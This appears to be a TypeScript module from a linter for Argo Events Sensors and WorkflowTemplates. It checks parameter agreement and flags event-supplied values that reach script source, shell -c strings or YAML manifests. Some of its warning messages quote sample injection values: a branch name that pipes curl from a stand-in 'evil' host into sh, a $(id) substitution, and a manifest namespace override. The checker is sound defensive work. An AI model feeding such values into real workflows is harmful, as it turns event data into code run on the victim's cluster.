/**
 * Cross-checks between Sensors and the WorkflowTemplates they submit: every parameter the Sensor fills is
 * declared by the template (ARG331), every template parameter without a default is filled (ARG332), the
 * template exists (ARG334); and the security rule (ARG350): a value that comes from the event may reach a
 * workflow only as a parameter used in argv or env, never inside `script` source or a shell `-c` string.
 */
import { asArray, asString, isRecord, quote, type PathPart, type Reporter } from './_internal/reporter.js';

const PREFIX = 'argoWorkflow.source.resource.';
const ARG_DEST = /^spec\.arguments\.parameters\.(\d+)\.value$/;

export interface SubmittedWorkflow {
  readonly triggerIndex: number;
  readonly triggerName: string;
  readonly workflowTemplate: string | undefined;
  /** The ref names a ClusterWorkflowTemplate. */
  readonly clusterScope: boolean;
  /** Arguments listed in the submitted Workflow: name → has a literal value. */
  readonly arguments: readonly { readonly name: string; readonly hasValue: boolean }[];
  /** Names of arguments the Sensor fills from events. */
  readonly filled: ReadonlySet<string>;
  /** dest paths that fill no listed argument. */
  readonly strayDests: readonly { readonly dest: string; readonly path: PathPart[] }[];
}

/** What each argoWorkflow trigger of a Sensor submits. */
export function submittedWorkflows(sensor: Record<string, unknown>): SubmittedWorkflow[] {
  const spec = isRecord(sensor['spec']) ? sensor['spec'] : {};
  const out: SubmittedWorkflow[] = [];
  asArray(spec['triggers']).forEach((t, i) => {
    if (!isRecord(t) || !isRecord(t['template'])) return;
    const wf = t['template']['argoWorkflow'];
    if (!isRecord(wf)) return;
    const resource = isRecord(wf['source']) && isRecord(wf['source']['resource']) ? wf['source']['resource'] : undefined;
    const rspec = resource && isRecord(resource['spec']) ? resource['spec'] : {};
    const ref = isRecord(rspec['workflowTemplateRef']) ? asString(rspec['workflowTemplateRef']['name']) : undefined;
    const clusterScope = isRecord(rspec['workflowTemplateRef']) && rspec['workflowTemplateRef']['clusterScope'] === true;
    const args = asArray(isRecord(rspec['arguments']) ? rspec['arguments']['parameters'] : undefined)
      .filter(isRecord)
      .map((a) => ({ name: String(a['name']), hasValue: a['value'] !== undefined }));
    const filled = new Set<string>();
    const strayDests: { dest: string; path: PathPart[] }[] = [];
    const dests: { dest: string; path: PathPart[] }[] = [
      ...asArray(wf['parameters']).map((p, j) => ({ dest: isRecord(p) ? String(p['dest'] ?? '') : '', path: ['spec', 'triggers', i, 'template', 'argoWorkflow', 'parameters', j, 'dest'] as PathPart[] })),
      ...asArray(t['parameters'])
        .map((p, j) => ({ dest: isRecord(p) ? String(p['dest'] ?? '') : '', path: ['spec', 'triggers', i, 'parameters', j, 'dest'] as PathPart[] }))
        .filter((d) => d.dest.startsWith(PREFIX))
        .map((d) => ({ ...d, dest: d.dest.slice(PREFIX.length) })),
    ];
    for (const d of dests) {
      const m = ARG_DEST.exec(d.dest);
      if (!m) continue;
      const arg = args[Number(m[1])];
      if (arg) filled.add(arg.name);
      else strayDests.push(d);
    }
    out.push({ triggerIndex: i, triggerName: String(t['template']['name'] ?? `#${i + 1}`), workflowTemplate: ref, clusterScope, arguments: args, filled, strayDests });
  });
  return out;
}

function declaredParameters(template: Record<string, unknown>): { name: string; required: boolean }[] {
  const spec = isRecord(template['spec']) ? template['spec'] : {};
  return asArray(isRecord(spec['arguments']) ? spec['arguments']['parameters'] : undefined)
    .filter(isRecord)
    .map((p) => ({ name: String(p['name']), required: p['value'] === undefined && p['default'] === undefined && p['valueFrom'] === undefined }));
}

/** The key of a (Cluster)WorkflowTemplate in the map {@link checkAgreement} reads. */
export function templateKey(name: string, clusterScope: boolean): string {
  return `${clusterScope ? 'ClusterWorkflowTemplate' : 'WorkflowTemplate'}/${name}`;
}

/** ARG331, ARG332, ARG334 for one Sensor against the (Cluster)WorkflowTemplates given, keyed by {@link templateKey}. */
export function checkAgreement(r: Reporter, sensor: Record<string, unknown>, templates: ReadonlyMap<string, Record<string, unknown>>): void {
  for (const s of submittedWorkflows(sensor)) {
    const base: PathPart[] = ['spec', 'triggers', s.triggerIndex, 'template', 'argoWorkflow'];
    for (const stray of s.strayDests) {
      r.report('ARG331', stray.path, `trigger ${quote(s.triggerName)} fills ${quote(stray.dest)}, but the submitted Workflow lists only ${s.arguments.length} argument${s.arguments.length === 1 ? '' : 's'}`, 'list the parameter under source.resource.spec.arguments.parameters, in the same position');
    }
    if (!s.workflowTemplate) continue;
    const key = templateKey(s.workflowTemplate, s.clusterScope);
    const template = templates.get(key);
    if (!template) {
      const kind = s.clusterScope ? 'ClusterWorkflowTemplate' : 'WorkflowTemplate';
      const known = [...templates.keys()].filter((k) => k.startsWith(`${kind}/`)).map((k) => k.slice(kind.length + 1));
      r.report('ARG334', [...base, 'source', 'resource', 'spec', 'workflowTemplateRef', 'name'], `trigger ${quote(s.triggerName)} submits ${kind} ${quote(s.workflowTemplate)}, which is not among the resources given (known: ${known.join(', ') || 'none'})`, 'fix the name (and clusterScope), or compile the pipeline that defines it together with this Sensor');
      continue;
    }
    const declared = declaredParameters(template);
    const names = new Set(declared.map((d) => d.name));
    s.arguments.forEach((a, k) => {
      if (!names.has(a.name)) {
        r.report('ARG331', [...base, 'source', 'resource', 'spec', 'arguments', 'parameters', k, 'name'], `trigger ${quote(s.triggerName)} passes parameter ${quote(a.name)}, which WorkflowTemplate ${quote(s.workflowTemplate)} does not declare (declared: ${[...names].join(', ') || 'none'})`, 'declare the parameter in the WorkflowTemplate, or fix its name in the Sensor');
      }
    });
    for (const d of declared) {
      const arg = s.arguments.find((a) => a.name === d.name);
      if (d.required && !(arg && (arg.hasValue || s.filled.has(d.name)))) {
        r.report('ARG332', [...base, 'source', 'resource', 'spec', 'arguments', 'parameters'], `WorkflowTemplate ${quote(s.workflowTemplate)} requires parameter ${quote(d.name)}, which trigger ${quote(s.triggerName)} does not fill`, `add a trigger parameter with dest spec.arguments.parameters.N.value for ${quote(d.name)}, or give the parameter a default`);
      }
    }
  }
}

const SHELLS = /(?:^|\/)(?:sh|bash|zsh|dash|ash|ksh|busybox|python[0-9.]*|node|perl|ruby|pwsh|powershell)$/;
const REF = /(workflow|inputs)\.parameters(?:\.([A-Za-z0-9_-]+)|\[['"]([A-Za-z0-9_-]+)['"]\])/g;

function taintedRefs(text: string, workflowTainted: ReadonlySet<string>, inputsTainted: ReadonlySet<string>): string[] {
  const out: string[] = [];
  for (const block of text.match(/\{\{[\s\S]*?\}\}/g) ?? []) {
    for (const m of block.matchAll(REF)) {
      const name = m[2] ?? m[3] ?? '';
      if (m[1] === 'workflow' ? workflowTainted.has(name) : inputsTainted.has(name)) out.push(`${m[1]}.parameters.${name}`);
    }
  }
  return out;
}

/**
 * ARG350 for one WorkflowTemplate whose parameters `eventParameters` are filled from events: follows them
 * through DAG/steps arguments into templates' inputs, and reports any that lands in script source or in the
 * string after `-c`/`-e` of a shell or interpreter.
 */
export function checkEventValuesStayOutOfShell(r: Reporter, workflowTemplate: Record<string, unknown>, eventParameters: ReadonlySet<string>, origin: string): void {
  const spec = isRecord(workflowTemplate['spec']) ? workflowTemplate['spec'] : {};
  const templates = asArray(spec['templates']).filter(isRecord);
  const tainted = new Map<string, Set<string>>(templates.map((t) => [String(t['name']), new Set<string>()]));
  for (let changed = true; changed; ) {
    changed = false;
    for (const t of templates) {
      const own = tainted.get(String(t['name'])) ?? new Set<string>();
      const calls = [
        ...asArray(isRecord(t['dag']) ? t['dag']['tasks'] : undefined),
        ...asArray(t['steps']).flatMap((group) => asArray(group)),
      ].filter(isRecord);
      for (const call of calls) {
        const callee = tainted.get(String(call['template']));
        if (!callee) continue;
        for (const p of asArray(isRecord(call['arguments']) ? call['arguments']['parameters'] : undefined).filter(isRecord)) {
          if (typeof p['value'] === 'string' && taintedRefs(p['value'], eventParameters, own).length > 0 && !callee.has(String(p['name']))) {
            callee.add(String(p['name']));
            changed = true;
          }
        }
      }
    }
  }
  templates.forEach((t, i) => {
    const name = String(t['name']);
    const own = tainted.get(name) ?? new Set<string>();
    const at: PathPart[] = ['spec', 'templates', i];
    const hint = 'pass the value as an environment variable (env: [{ name: BRANCH, value: "{{inputs.parameters.branch}}" }]) or a separate argv element, and read it as "$BRANCH" in the script';
    const script = isRecord(t['script']) ? t['script'] : undefined;
    if (script && typeof script['source'] === 'string') {
      for (const ref of taintedRefs(script['source'], eventParameters, own)) {
        r.report('ARG350', [...at, 'script', 'source'], `template ${quote(name)} puts ${quote(`{{${ref}}}`)} — ${origin} — inside script source, where a crafted value (a branch named x";curl evil|sh;") becomes code`, hint);
      }
    }
    const resource = isRecord(t['resource']) ? t['resource'] : undefined;
    if (resource && typeof resource['manifest'] === 'string') {
      for (const ref of taintedRefs(resource['manifest'], eventParameters, own)) {
        r.report('ARG350', [...at, 'resource', 'manifest'], `template ${quote(name)} puts ${quote(`{{${ref}}}`)} — ${origin} — inside a resource manifest, where a crafted value (a branch name holding a line break and "  namespace: kube-system") adds or changes fields of the object created`, 'pass the value through a field that is not parsed as YAML (a ConfigMap key via a separate step, a label sanitised by an earlier step), or validate it in a step before the resource is created');
      }
    }
    const containers = [
      ...(isRecord(t['container']) ? [['container', t['container']] as const] : []),
      ...(script ? [['script', script] as const] : []),
      ...asArray(isRecord(t['containerSet']) ? t['containerSet']['containers'] : undefined).map((c, k) => [`containerSet.containers[${k}]`, c] as const),
    ];
    for (const [where, c] of containers) {
      if (!isRecord(c)) continue;
      const argv = [...asArray(c['command']), ...asArray(c['args'])].map(String);
      const interpreter = argv.findIndex((a) => SHELLS.test(a));
      if (interpreter < 0) continue;
      argv.forEach((a, k) => {
        if (k <= interpreter || (a !== '-c' && a !== '-e' && !/^-[a-z]*c$/.test(a))) return;
        const code = argv[k + 1];
        if (code === undefined) return;
        for (const ref of taintedRefs(code, eventParameters, own)) {
          r.report('ARG350', [...at, ...where.split('.')], `template ${quote(name)} puts ${quote(`{{${ref}}}`)} — ${origin} — inside the ${quote(argv[interpreter])} ${a} string, where a crafted value (a commit message containing $(id)) becomes code`, hint);
        }
      });
    }
  });
}
